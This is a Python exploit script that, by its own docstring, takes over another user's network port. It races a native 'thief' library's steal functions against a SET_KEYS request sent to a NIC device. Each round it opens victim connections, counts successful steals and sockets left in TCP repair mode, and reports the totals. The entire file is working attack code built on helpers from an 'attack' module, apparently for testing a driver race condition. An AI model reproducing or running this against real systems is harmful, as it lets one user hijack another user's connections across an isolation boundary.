"""Takes a port of another user's: has the NIC look at a socket, and at the same time binds that to the port."""
import ctypes
import random
import socket
import sys
import threading
import time

from attack import SET_KEYS, TCP_REPAIR, answer, attach, connect, pass_on, report, request, slab

path, peer, port, stolen, library, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], float(sys.argv[6])
thief = ctypes.CDLL(library)
nic = attach(path)
pass_on(nic, request(1), [slab(4096)])
assert answer(nic) == 0
found, tries, taken, left, index = {}, 0, 0, 0, 0
end = time.monotonic() + seconds


def race(steal, looks):
    found["as"] = steal(victim.fileno(), stolen, looks)


while time.monotonic() < end and index < 4000:
    tries += 1
    victim = connect(peer, port)
    # With a look at when it may be, and without.
    steal, looks = random.choice([(thief.steal, 1 << 15), (thief.steal_blindly, 1 << 12)])
    thread = threading.Thread(target=race, args=(steal, looks))
    if steal == thief.steal:
        thread.start()
        time.sleep(0.0005)
    pass_on(nic, request(SET_KEYS, index=index), [victim.fileno()])
    if steal != thief.steal:
        thread.start()
    index += 1
    answer(nic)
    thread.join()
    reuse = victim.getsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR)
    repair = victim.getsockopt(socket.IPPROTO_TCP, TCP_REPAIR)
    left += reuse > 1 or repair != 0
    if found["as"] == 1:
        taken += 1
        break
    victim.close()
report(tries=tries, stolen=taken, left_in_repair=left)
